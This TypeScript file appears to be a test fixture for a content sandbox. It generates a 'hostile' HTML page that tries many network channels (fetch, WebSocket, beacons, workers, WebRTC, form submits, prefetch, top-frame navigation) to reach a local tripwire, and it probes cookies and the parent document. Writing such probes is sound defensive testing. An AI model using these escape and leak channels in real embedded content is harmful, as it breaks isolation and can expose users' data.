/** A string literal that can sit inside an inline <script>. */
function inlineJs(value: string): string {
  return JSON.stringify(value).replace(/<\//g, '<\\/');
}

function attribute(value: string): string {
  return value.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
}

/**
 * An artifact that tries every way out of the sandbox we know of, aimed at a
 * tripwire on `origin` (http://127.0.0.1:<port>). Its last script posts
 * `{ probe: 'hostile-report', report }` to the parent with what each attempt
 * returned or threw, once every attempt has settled.
 *
 * Navigations (location.href = …, a script-made <iframe src>) are not here:
 * they get their own spec (see NAVIGATIONS), because Chromium treats them
 * differently (see there).
 */
export function hostilePage(origin: string): string {
  const port = new URL(origin).port;
  const turn = JSON.stringify({
    iceServers: [
      { urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'u', credential: 'p' },
      { urls: `stun:127.0.0.1:${port}` },
    ],
  });
  // A child document that would try WebRTC (and a fetch) with fresh globals.
  const child =
    `<script>try { const pc = new RTCPeerConnection(${turn}); pc.createDataChannel('x');` +
    ` pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch (e) {}` +
    ` fetch('${origin}/child-fetch').catch(() => {});</` +
    'script>';
  const T = origin;
  return `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=${T}/meta-refresh">
<base href="${T}/base/">
<link rel="stylesheet" href="${T}/style.css">
<link rel="preconnect" href="${T}">
<link rel="dns-prefetch" href="${T}">
<link rel="prefetch" href="${T}/prefetch">
<link rel="prerender" href="${T}/prerender">
<link rel="preload" as="script" href="${T}/preload.js">
<link rel="modulepreload" href="${T}/modulepreload.js">
<link rel="icon" href="${T}/favicon.ico">
<link rel="manifest" href="${T}/manifest.json">
<script src="${T}/script.js"></script>
<script type="module" src="${T}/module.js"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${T}/speculation"]}]}</script>
<style>
  @import url("${T}/import.css");
  @font-face { font-family: leak; src: url("${T}/font.woff2"); }
  body { background-image: url("${T}/background.png"); font-family: leak, sans-serif; }
  #status { cursor: url("${T}/cursor.png"), auto; mask-image: url("${T}/mask.png"); }
</style>
</head><body>
<p id="status">hostile page</p>
<img src="${T}/img.png" alt="">
<img srcset="${T}/srcset.png 2x" alt="">
<picture><source srcset="${T}/picture.webp"><img src="relative.png" alt=""></picture>
<video src="${T}/video.mp4" poster="${T}/poster.png" autoplay muted></video>
<audio src="${T}/audio.mp3" autoplay></audio>
<video><track src="${T}/track.vtt" default></video>
<svg width="10" height="10"><image href="${T}/svg-image.png" width="10" height="10"/></svg>
<input type="image" src="${T}/input.png" alt="">
<object data="${T}/object"></object>
<embed src="${T}/embed">
<iframe src="${T}/iframe"></iframe>
<iframe srcdoc="${attribute(child)}"></iframe>
<form id="f1" action="${T}/form" method="post"><input name="q" value="x"></form>
<form id="f2" action="${T}/form-top" target="_top"></form>
<a id="ping" href="${T}/link" ping="${T}/ping">link</a>
<script>
(async () => {
  const T = ${JSON.stringify(T)};
  const report = {};
  const settle = [];
  const attempt = (name, fn) => {
    try {
      const r = fn();
      if (r && typeof r.then === 'function') {
        report[name] = 'pending';
        settle.push(r.then((v) => { report[name] = 'resolved ' + String(v).slice(0, 60); },
                           (e) => { report[name] = 'rejected ' + (e && e.name); }));
      } else {
        report[name] = 'returned ' + String(r).slice(0, 60);
      }
    } catch (e) {
      report[name] = 'threw ' + (e && e.name);
    }
  };
  const dynamic = (tag, props) => {
    const el = document.createElement(tag);
    Object.assign(el, props);
    (tag === 'link' ? document.head : document.body).appendChild(el);
    return el;
  };
  const child = ${inlineJs(child)};

  attempt('fetch', () => fetch(T + '/fetch', { mode: 'no-cors' }));
  attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', T + '/xhr'); x.send(); });
  attempt('websocket', () => new WebSocket(T.replace('http', 'ws') + '/ws'));
  attempt('eventsource', () => new EventSource(T + '/sse'));
  attempt('sendBeacon', () => navigator.sendBeacon(T + '/beacon', 'x'));
  attempt('new-image', () => { new Image().src = T + '/new-image.png'; });
  attempt('dynamic-import', () => import(T + '/dynamic.js'));
  attempt('worker', () => new Worker(T + '/worker.js'));
  attempt('blob-worker', () => new Worker(URL.createObjectURL(new Blob(["fetch('" + T + "/from-worker')"]))));
  attempt('shared-worker', () => new SharedWorker(T + '/shared.js'));
  attempt('service-worker', () => navigator.serviceWorker.register(T + '/sw.js'));
  attempt('webtransport', () => new WebTransport(T.replace('http', 'https') + '/wt'));
  attempt('form-submit', () => HTMLFormElement.prototype.submit.call(document.getElementById('f1')));
  attempt('form-submit-top', () => HTMLFormElement.prototype.submit.call(document.getElementById('f2')));
  attempt('form-requestSubmit', () => document.getElementById('f1').requestSubmit());
  attempt('window-open', () => window.open(T + '/open'));
  attempt('top-location', () => { top.location = T + '/top'; });
  attempt('top-location-href', () => { top.location.href = T + '/top-href'; });
  attempt('parent-location', () => { parent.location = T + '/parent'; });
  attempt('history-back', () => history.back());
  attempt('link-click-with-ping', () => document.getElementById('ping').click());
  attempt('rtc', () => new RTCPeerConnection(JSON.parse(${inlineJs(turn)})));
  attempt('rtc-webkit', () => new webkitRTCPeerConnection(JSON.parse(${inlineJs(turn)})));
  attempt('iframe-srcdoc', () => { dynamic('iframe', { srcdoc: child }); });
  attempt('iframe-javascript-url', () => { dynamic('iframe', { src: 'javascript:' + encodeURIComponent(JSON.stringify(child)) }); });
  attempt('iframe-in-closed-shadow', () => {
    const root = dynamic('div', {}).attachShadow({ mode: 'closed' });
    const f = document.createElement('iframe');
    f.srcdoc = child;
    root.appendChild(f);
  });
  attempt('preconnect', () => { dynamic('link', { rel: 'preconnect', href: T }); });
  attempt('prefetch', () => { dynamic('link', { rel: 'prefetch', href: T + '/dynamic-prefetch' }); });
  attempt('stylesheet', () => { dynamic('link', { rel: 'stylesheet', href: T + '/dynamic.css' }); });
  attempt('script-src', () => { dynamic('script', { src: T + '/dynamic.js' }); });
  attempt('speculationrules', () => {
    dynamic('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [T + '/dyn-spec'] }] }) });
  });
  attempt('object-data', () => { dynamic('object', { type: 'text/html', data: 'data:text/html,' + encodeURIComponent(child) }); });
  attempt('cookie-read', () => document.cookie);
  attempt('cookie-write', () => { document.cookie = 'frame=1; path=/'; return document.cookie; });
  attempt('localStorage', () => localStorage.getItem('x'));
  attempt('parent-document', () => parent.document.title);
  attempt('parent-cookie', () => parent.document.cookie);
  attempt('parent-location-href', () => parent.location.href);
  attempt('top-document', () => top.document.body.innerHTML);

  await Promise.allSettled(settle);
  parent.postMessage({ probe: 'hostile-report', report }, '*');
})();
</script>
</body></html>`;
}

/**
 * Navigations a page can start: of its own frame, or of a child frame it
 * creates. The embedder's frame-src (own frame) or the sandbox frame-src
 * 'none' (child frame) blocks each one, but Chromium resolves the host and
 * opens a TCP connection before that check; no request is ever sent.
 */
export interface NavigationAttempt {
  script(origin: string): string;
  /** Whether the attempt takes the artifact's own frame away (to an error page). */
  replacesFrame: boolean;
}

const self = (script: (origin: string) => string): NavigationAttempt => ({ script, replacesFrame: true });

export const NAVIGATIONS: Record<string, NavigationAttempt> = {
  'location.href': self((o) => `location.href = ${JSON.stringify(`${o}/self-href`)};`),
  'location.assign': self((o) => `location.assign(${JSON.stringify(`${o}/self-assign`)});`),
  'location.replace': self((o) => `location.replace(${JSON.stringify(`${o}/self-replace`)});`),
  'window.location': self((o) => `window.location = ${JSON.stringify(`${o}/self-window`)};`),
  'meta refresh made by a script': self(
    (o) =>
      `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = ${JSON.stringify(`0;url=${o}/self-meta`)}; document.head.appendChild(m);`,
  ),
  'a child <iframe src> made by a script': {
    script: (o) => `const f = document.createElement('iframe'); f.src = ${JSON.stringify(`${o}/child`)}; document.body.appendChild(f);`,
    replacesFrame: false,
  },
};
